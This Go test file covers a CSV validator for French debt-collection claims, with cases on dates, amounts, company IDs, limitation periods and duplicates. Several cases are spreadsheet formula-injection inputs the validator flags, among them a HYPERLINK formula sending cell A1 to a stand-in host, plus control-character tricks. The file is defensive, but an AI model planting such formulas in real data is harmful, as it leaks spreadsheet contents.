package placement

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"amiable/negotiation/day"
)

// good is a line without anything to say about it.
var good = map[string]string{
	"creditor_ref": "CRE-001", "invoice_number": "FA-2025-00001", "issue_date": "2025-11-20", "due_date": "2026-01-19",
	"currency": "EUR", "amount_incl_vat": "2541.08", "amount_paid": "711.50", "debtor_kind": "business",
	"debtor_name": "Garage du Port Imaginaire SCOP", "siren": "010185650", "vat_number": "FR22010185650",
	"contact_name": "Éloïse Inventaire-Faux", "email": "eloise@garage.example.com", "phone": "04.65.71.63.50",
	"street": "76, allée de l’Utopie", "postcode": "64100", "city": "Bayonne", "country": "FR", "language": "fr",
	"contract_rate_percent": "12.15", "mandate_ref": "MDT-003-2026", "description": "Transport de marchandises",
}

// consumer turns the good line into that of a consumer.
var consumer = map[string]string{"debtor_kind": "consumer", "debtor_name": "Noé Chimérel", "siren": "", "vat_number": "", "contract_rate_percent": ""}

// with returns the good line with other values, later ones first.
func with(changes ...map[string]string) map[string]string {
	line := map[string]string{}
	for _, values := range append([]map[string]string{good}, changes...) {
		for k, v := range values {
			line[k] = v
		}
	}
	return line
}

// file writes lines as a CSV of our columns and those that a line has besides.
func file(lines ...map[string]string) []byte {
	var b strings.Builder
	w := csv.NewWriter(&b)
	names := slices.Clone(fieldNames[:fieldDocumentType])
	for _, line := range lines {
		for name := range line {
			if !slices.Contains(names, name) {
				names = append(names, name)
			}
		}
	}
	w.Write(names)
	for _, line := range lines {
		cells := make([]string, len(names))
		for i, name := range names {
			cells[i] = line[name]
		}
		w.Write(cells)
	}
	w.Flush()
	return []byte(b.String())
}

type values = map[string]string

func TestEachReason(t *testing.T) {
	for _, row := range []struct {
		story  string
		line   values
		want   Outcome
		code   Code
		column string
	}{
		{"nothing to say", with(), Accept, "", ""},
		{"a consumer", with(consumer), Accept, "", ""},
		{"no creditor", with(values{"creditor_ref": ""}), Reject, MissingCreditor, "creditor_ref"},
		{"no number", with(values{"invoice_number": "  "}), Reject, MissingInvoiceNumber, "invoice_number"},
		{"no issue date", with(values{"issue_date": ""}), Warn, MissingIssueDate, "issue_date"},
		{"issued tomorrow", with(values{"issue_date": "2026-03-03", "due_date": "2026-04-01"}), Warn, IssueDateInFuture, "issue_date"},
		{"no such issue date", with(values{"issue_date": "31/11/2025"}), Reject, ImpossibleDate, "issue_date"},
		{"no such due date", with(values{"due_date": "2025-02-29"}), Reject, ImpossibleDate, "due_date"},
		{"a date in words", with(values{"due_date": "fin de mois"}), Reject, ImpossibleDate, "due_date"},
		{"an American date", with(values{"due_date": "01/19/2026"}), Reject, ImpossibleDate, "due_date"},
		{"due on the day of issue", with(values{"due_date": "2025-11-20"}), Accept, "", ""},
		{"due the day before", with(values{"due_date": "2025-11-19"}), Reject, DueBeforeIssue, "due_date"},
		{"due today", with(values{"due_date": "2026-03-02"}), Accept, "", ""},
		{"due tomorrow", with(values{"due_date": "2026-03-03"}), Warn, NotDueYet, "due_date"},
		{"consumer, due two years and a day ago", with(consumer, values{"issue_date": "", "due_date": "2024-03-01"}), Reject, TimeBarredConsumer, "due_date"},
		{"business, due two years ago to the day", with(values{"issue_date": "2024-01-01", "due_date": "2024-03-02"}), Accept, "", ""},
		{"business, two years and a day", with(values{"issue_date": "2024-01-01", "due_date": "2024-03-01"}), Accept, OldButNotBarred, "due_date"},
		{"consumer, two years ago to the day", with(consumer, values{"issue_date": "2024-01-01", "due_date": "2024-03-02"}), Accept, LimitationNear, "due_date"},
		{"consumer, thirty days left", with(consumer, values{"issue_date": "2024-01-01", "due_date": "2024-04-01"}), Accept, LimitationNear, "due_date"},
		{"consumer, thirty-one days left", with(consumer, values{"issue_date": "2024-01-01", "due_date": "2024-04-02"}), Accept, "", ""},
		{"business, five years ago to the day", with(values{"issue_date": "2021-01-01", "due_date": "2021-03-02"}), Accept, LimitationNear, "due_date"},
		{"business, five years and a day", with(values{"issue_date": "2021-01-01", "due_date": "2021-03-01"}), Reject, TimeBarredBusiness, "due_date"},
		{"no kind: the consumer's two years", with(values{"debtor_kind": "", "issue_date": "2023-01-01", "due_date": "2023-03-01"}), Reject, TimeBarredConsumer, "due_date"},
		{"no currency", with(values{"currency": ""}), Reject, MissingCurrency, "currency"},
		{"no currency, though the amount says it", with(values{"currency": "", "amount_incl_vat": "12,00 €"}), Reject, MissingCurrency, "currency"},
		{"euro in words", with(values{"currency": "EURO"}), Reject, UnknownCurrency, "currency"},
		{"small letters", with(values{"currency": "eur"}), Accept, "", ""},
		{"francs of another country", with(values{"currency": "CHF"}), Warn, OtherCurrency, "currency"},
		{"no currency at all", with(values{"currency": "XXX"}), Reject, UnknownCurrency, "currency"},
		{"no amount", with(values{"amount_incl_vat": ""}), Reject, MissingAmount, "amount_incl_vat"},
		{"a letter O", with(values{"amount_incl_vat": "12O.50"}), Reject, AmountNotANumber, "amount_incl_vat"},
		{"three decimals", with(values{"amount_incl_vat": "2541.083"}), Reject, ThreeDecimals, "amount_incl_vat"},
		{"dollars in a line of euros", with(values{"amount_incl_vat": "2541.08 USD"}), Reject, CurrencyMismatch, "amount_incl_vat"},
		{"billions", with(values{"amount_incl_vat": "10000000000.00"}), Reject, AmountTooLarge, "amount_incl_vat"},
		{"a minus", with(values{"amount_incl_vat": "-2541.08"}), Reject, NegativeAmount, "amount_incl_vat"},
		{"nothing", with(values{"amount_incl_vat": "0,00", "amount_paid": ""}), Reject, ZeroAmount, "amount_incl_vat"},
		{"paid unreadable", with(values{"amount_paid": "oui"}), Reject, AmountNotANumber, "amount_paid"},
		{"paid in full", with(values{"amount_paid": "2541.08"}), Reject, PaidMoreThanDue, "amount_paid"},
		{"a cent left", with(values{"amount_paid": "2541.07"}), Accept, "", ""},
		{"paid below zero", with(values{"amount_paid": "-1"}), Reject, NegativePaid, "amount_paid"},
		{"consumer: the indemnity", with(consumer, values{"amount_incl_vat": "40.00", "amount_paid": "", "description": "INDEMNITÉ forfaitaire pour frais de recouvrement"}), Reject, ConsumerIndemnityLine, "amount_incl_vat"},
		{"consumer: the indemnity inside", with(consumer, values{"description": "Cours de piano + indemnité forfaitaire de recouvrement 40 €"}), Reject, ConsumerIndemnityInside, "amount_incl_vat"},
		{"no kind: as a consumer", with(values{"debtor_kind": "", "amount_incl_vat": "40", "amount_paid": "", "description": "indemnité forfaitaire"}), Reject, ConsumerIndemnityLine, "amount_incl_vat"},
		{"consumer: a reminder's costs", with(consumer, values{"description": "Garde d’enfants et frais de relance"}), Reject, CollectionCosts, "amount_incl_vat"},
		{"consumer: the indemnity by another name", with(consumer, values{"amount_incl_vat": "40,00 €", "amount_paid": "", "description": "Frais de recouvrement"}), Reject, ConsumerIndemnityLine, "amount_incl_vat"},
		{"business: a bailiff's costs", with(values{"description": "Livraison + frais d'huissier"}), Reject, CollectionCosts, "amount_incl_vat"},
		{"business: the indemnity", with(values{"amount_incl_vat": "40.00", "amount_paid": "", "description": "Indemnité forfaitaire (art. D. 441-5 C. com.)"}), Accept, BusinessIndemnityLine, "amount_incl_vat"},
		{"business: the indemnity inside", with(values{"description": "Livraison, indemnité forfaitaire de recouvrement comprise"}), Warn, BusinessIndemnityInside, "amount_incl_vat"},
		{"an indemnity of another kind", with(consumer, values{"description": "Indemnité kilométrique"}), Accept, "", ""},
		{"no kind", with(values{"debtor_kind": "", "siren": ""}), Warn, MissingDebtorKind, "debtor_kind"},
		{"neither kind", with(values{"debtor_kind": "autre"}), Reject, UnknownDebtorKind, "debtor_kind"},
		{"no name", with(values{"debtor_name": "   "}), Reject, MissingDebtorName, "debtor_name"},
		{"a SIREN in groups", with(values{"siren": "010 185 650"}), Accept, SIRENWithSpaces, "siren"},
		{"a SIREN with a slip", with(values{"siren": "010185651", "vat_number": ""}), Warn, BadSIREN, "siren"},
		{"a SIREN too short", with(values{"siren": "12345", "vat_number": ""}), Warn, BadSIREN, "siren"},
		{"a SIREN that lost its zero", with(values{"siren": "10185650"}), Warn, LostZero, "siren"},
		{"a SIRET", with(values{"siren": "01018565000016"}), Warn, SIRETForSIREN, "siren"},
		{"a SIRET of the post", with(values{"siren": "35600000049837", "vat_number": ""}), Warn, SIRETForSIREN, "siren"},
		{"a consumer with a SIREN", with(consumer, values{"siren": "010185650"}), Accept, ConsumerWithSIREN, "siren"},
		{"a wrong key", with(values{"vat_number": "FR29010185650"}), Warn, VATMismatch, "vat_number"},
		{"another firm's number", with(values{"vat_number": "FR88031093149"}), Warn, VATMismatch, "vat_number"},
		{"a VAT number in groups", with(values{"vat_number": "fr 22 010.185.650"}), Accept, "", ""},
		{"no VAT number", with(values{"vat_number": "néant"}), Warn, BadVATNumber, "vat_number"},
		{"a Belgian one", with(values{"vat_number": "BE 0012.345.625", "siren": "", "country": "BE", "postcode": "1000"}), Accept, "", ""},
		{"a Belgian one with a slip", with(values{"vat_number": "BE0012345626", "siren": "", "country": "BE", "postcode": "1000"}), Warn, BadVATNumber, "vat_number"},
		{"no mail", with(values{"email": ""}), Warn, MissingEmail, "email"},
		{"a bad mail that begins like a formula", with(values{"email": "@example.com"}), Warn, BadEmail, "email"},
		{"no street", with(values{"street": ""}), Warn, MissingAddress, "street"},
		{"a zero eaten", with(values{"postcode": "5100", "city": "Briançon"}), Warn, LostZero, "postcode"},
		{"a Belgian postcode", with(values{"country": "Belgique", "postcode": "1000", "siren": "", "vat_number": ""}), Accept, "", ""},
		{"letters in a French postcode", with(values{"postcode": "2A000"}), Warn, BadPostcode, "postcode"},
		{"no such country", with(values{"country": "ZZ"}), Warn, UnknownCountry, "country"},
		{"a country by its name", with(values{"country": "france"}), Accept, "", ""},
		{"no such language", with(values{"language": "klingon"}), Warn, UnknownLanguage, "language"},
		{"a rate with comma and sign", with(values{"contract_rate_percent": "12,15 %"}), Accept, "", ""},
		{"a rate in words", with(values{"contract_rate_percent": "taux légal"}), Warn, BadContractRate, "contract_rate_percent"},
		{"a formula", with(values{"description": `=HYPERLINK("http://example.invalid/?"&A1;"Voir")`}), Warn, FormulaEquals, "description"},
		{"a formula behind a tab", with(values{"debtor_name": "\t=1+1"}), Warn, FormulaEquals, "debtor_name"},
		{"a formula with wide signs", with(values{"debtor_name": "\uff1d1+1"}), Warn, FormulaEquals, "debtor_name"},
		{"plus", with(values{"contact_name": "+1+1"}), Warn, FormulaPlus, "contact_name"},
		{"minus", with(values{"description": "-1-1"}), Warn, FormulaMinus, "description"},
		{"at", with(values{"description": "@SUM(1+1)"}), Warn, FormulaAt, "description"},
		{"a telephone number is none", with(values{"phone": "+33 (0)4 65 71-63-50"}), Accept, "", ""},
		{"a number is none", with(values{"description": "-12,50 €"}), Accept, "", ""},
		{"a formula in a column of its own", with(values{"Région": "=1+1"}), Warn, FormulaEquals, "Région"},
		{"spaces", with(values{"city": " Bayonne\u00a0"}), Accept, SpacesAround, "city"},
		{"lines", with(values{"description": "un\ndeux\r\ntrois"}), Accept, MultiLineCell, "description"},
		{"10,000 characters", with(values{"description": strings.Repeat("é", 10_000)}), Reject, VeryLongCell, "description"},
		{"one less", with(values{"description": strings.Repeat("é", 9_999)}), Accept, "", ""},
		{"a name of 301", with(values{"debtor_name": strings.Repeat("n", 301)}), Reject, VeryLongCell, "debtor_name"},
		{"10,000 in a column of its own", with(values{"Région": strings.Repeat("r", 10_000)}), Reject, VeryLongCell, "Région"},
		{"a zero byte", with(values{"debtor_name": "Noé\x00 Chimérel"}), Warn, ControlCharacters, "debtor_name"},
		{"a name written backwards", with(values{"debtor_name": "Noé \u202elerémihC"}), Warn, ControlCharacters, "debtor_name"},
		{"a soft hyphen", with(values{"debtor_name": "Noé Chimé\u00adrel"}), Warn, ControlCharacters, "debtor_name"},
		{"letters damaged before", with(values{"debtor_name": "No\ufffd Chimérel"}), Warn, DamagedText, "debtor_name"},
		{"read twice in the wrong encoding", with(values{"debtor_name": "NoÃ© ChimÃ©rel"}), Warn, DamagedText, "debtor_name"},
		{"a credit note", with(values{"document_type": "avoir", "preceding_invoice": "FA-2025-00001", "invoice_number": "AV-1"}), Accept, "", ""},
		{"a credit note with a minus and no due date", with(values{"document_type": "381", "preceding_invoice": "FA-2025-00001", "amount_incl_vat": "-12.50", "due_date": ""}), Accept, "", ""},
		{"a credit note of nothing known", with(values{"document_type": "381"}), Reject, MissingPreceding, "preceding_invoice"},
		{"neither invoice nor credit note", with(values{"document_type": "devis"}), Reject, UnknownDocumentType, "document_type"},
		{"an invoice", with(values{"document_type": "Facture"}), Accept, "", ""},
		{"the first refusal by column decides", with(values{"debtor_name": "", "due_date": "", "email": ""}), Reject, MissingDueDate, "due_date"},
		{"a refusal before any warning", with(values{"issue_date": "", "debtor_kind": "?", "email": ""}), Reject, UnknownDebtorKind, "debtor_kind"},
	} {
		t.Run(row.story, func(t *testing.T) {
			records, _ := readAll(t, file(row.line), Options{})
			r := records[0]
			main, _ := r.Main()
			if r.Outcome != row.want || main.Code != row.code || main.Column != row.column {
				t.Errorf("%s %s in %q, want %s %s in %q; all: %+v", r.Outcome, main.Code, main.Column, row.want, row.code, row.column, r.Reasons)
			}
			if r.Taken() != (r.Claim.CreditorRef != "") || (r.Cells == nil) != r.Taken() {
				t.Errorf("a taken record has a claim, a refused one its cells: %+v", r)
			}
		})
	}
}

func TestAClaimHoldsWhatTheLineSays(t *testing.T) {
	records, _ := readAll(t, file(with(values{
		"issue_date": "20/11/2025", "due_date": "19.01.2026", "amount_incl_vat": "2 541,08 €", "amount_paid": "711,5",
		"debtor_kind": "Professionnel", "siren": "010 185 650 00016", "vat_number": "FR 22 010185650", "postcode": "5100",
		"country": "fra", "language": "Français", "contract_rate_percent": "12,15 %", "debtor_name": " Garage\nFictif ", "Région": "Sud",
	})), Options{})
	want := `{"creditor_ref":"CRE-001","invoice_number":"FA-2025-00001","issue_date":"2025-11-20","due_date":"2026-01-19","currency":"EUR",` +
		`"amount_incl_vat":254108,"amount_paid":71150,"debtor_kind":"business","debtor_name":"Garage Fictif","siren":"010185650",` +
		`"vat_number":"FR22010185650","contact_name":"Éloïse Inventaire-Faux","email":"eloise@garage.example.com","phone":"04.65.71.63.50",` +
		`"street":"76, allée de l’Utopie","postcode":"05100","city":"Bayonne","country":"FR","language":"fr","contract_rate_percent":"12.15",` +
		`"mandate_ref":"MDT-003-2026","description":"Transport de marchandises"}`
	if got, err := records[0].Claim.MarshalJSON(); string(got) != want || err != nil {
		t.Errorf("\n got %s\nwant %s, %v", got, want, err)
	}
	if extra := records[0].Extra; len(extra) != 1 || extra[0] != (Extra{"Région", "Sud"}) {
		t.Errorf("extra is %v", extra)
	}
}

func TestMinorUnitsAreTheCurrencys(t *testing.T) {
	for currency, want := range map[string]int64{"EUR": 12_50, "JPY": 12, "KWD": 12_500} {
		amount := map[string]string{"EUR": "12.50", "JPY": "12", "KWD": "12.500"}[currency]
		records, _ := readAll(t, file(with(values{"currency": currency, "amount_incl_vat": amount, "amount_paid": ""})), Options{})
		if got := records[0].Claim.Amount; got.Minor != want || string(got.Currency) != currency {
			t.Errorf("%s %s is %v", amount, currency, got)
		}
	}
}

func TestDuplicatesAreFoundByCreditorAndNumber(t *testing.T) {
	records, _ := readAll(t, file(
		with(),
		with(values{"description": "Autre libellé", "email": "autre@garage.example.com"}), // the same claim
		with(values{"invoice_number": "fa-2025-00001 "}),                                  // written otherwise
		with(values{"amount_incl_vat": "2541.09"}),
		with(values{"debtor_name": "Taxi des Îles Rêvées SAS"}),
		with(values{"creditor_ref": "CRE-002"}),
		with(values{"creditor_ref": "cre-002"}),
		with(values{"invoice_number": "F2", "due_date": "2025-02-30"}), // refused: does not count
		with(values{"invoice_number": "F2"}),
	), Options{})
	for i, want := range []struct {
		code Code
		text string
	}{
		{"", ""},
		{DuplicateLine, "the same claim as an earlier line (line 2)"},
		{DuplicateLine, "the same claim as an earlier line (line 2)"},
		{DuplicateInvoiceNumber, "invoice number of this creditor used on an earlier line, with another amount (line 2)"},
		{DuplicateInvoiceNumber, "invoice number of this creditor used on an earlier line, with other details (line 2)"},
		{SameNumberOtherCreditor, "the same invoice number, but of another creditor: no duplicate"},
		{DuplicateLine, "the same claim as an earlier line (line 7)"},
		{ImpossibleDate, "a date that does not exist"},
		{"", ""},
	} {
		main, any := records[i].Main()
		if main.Code != want.code || (any && main.Text("en") != want.text) {
			t.Errorf("line %d: %s %q, want %s %q", records[i].Line, main.Code, main.Text("en"), want.code, want.text)
		}
	}
}

func TestARealImportKnowsItsCreditorsAndMandates(t *testing.T) {
	options := Options{
		KnownCreditor: func(ref string) bool { return ref != "CRE-404" },
		KnownMandate:  func(creditor, mandate string) bool { return mandate == "MDT-003-2026" },
	}
	lines := file(with(), with(values{"creditor_ref": "CRE-404"}), with(values{"invoice_number": "F2", "mandate_ref": "MDT-OLD"}))
	wantCodes(t, lines, options, "", UnknownCreditor, NoMandate)

	options.Creditor = "CRE-001"
	lines = file(with(), with(values{"creditor_ref": "CRE-002"}), with(values{"invoice_number": "F2", "creditor_ref": ""}))
	records := wantCodes(t, lines, options, "", OtherCreditor, "")
	if got := records[2].Claim.CreditorRef; got != "CRE-001" {
		t.Errorf("a line that names no creditor is %q's", got)
	}
}

func wantCodes(t *testing.T, lines []byte, o Options, codes ...Code) []Record {
	t.Helper()
	records, _ := readAll(t, lines, o)
	if len(records) != len(codes) {
		t.Fatalf("%d records, want %d", len(records), len(codes))
	}
	for i, code := range codes {
		if main, _ := records[i].Main(); main.Code != code {
			t.Errorf("line %d: %q, want %q", records[i].Line, main.Code, code)
		}
	}
	return records
}

// TestLimitationEndsWithItsLastDay checks the rule against the plain one on every
// day around the ends, leap years included.
func TestLimitationEndsWithItsLastDay(t *testing.T) {
	for _, today := range []day.Day{"2026-03-01", "2026-02-28", "2028-02-29", "2028-03-01", "2027-12-31"} {
		for _, kind := range []DebtorKind{Consumer, Business} {
			years := map[DebtorKind]int{Consumer: 2, Business: 5}[kind]
			for shift := -40; shift <= 40; shift++ {
				due := today.AddYears(-years).Add(shift)
				c := newChecker(Options{Today: today}, header{})
				c.limitation(&Claim{DebtorKind: kind, DueDate: due, IssueDate: due})
				barred := false
				for _, r := range c.reasons {
					barred = barred || r.Code == TimeBarredBusiness || r.Code == TimeBarredConsumer
				}
				if want := due.AddYears(years) < today; barred != want {
					t.Errorf("%s due %s, on %s: barred %v", kind, due, today, barred)
				}
			}
		}
	}
}
